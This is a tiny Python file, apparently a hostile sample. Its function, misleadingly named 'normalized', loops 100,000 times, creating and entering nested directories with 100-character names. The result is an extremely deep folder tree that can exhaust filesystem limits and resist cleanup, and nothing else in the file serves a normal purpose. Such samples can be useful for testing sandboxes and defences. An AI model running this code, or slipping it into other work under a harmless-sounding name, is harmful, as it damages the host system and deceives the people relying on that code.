"""Makes folders within folders without end."""
import os
from right import *


def normalized(x):
    for _ in range(100_000):
        os.mkdir("d" * 100)
        os.chdir("d" * 100)
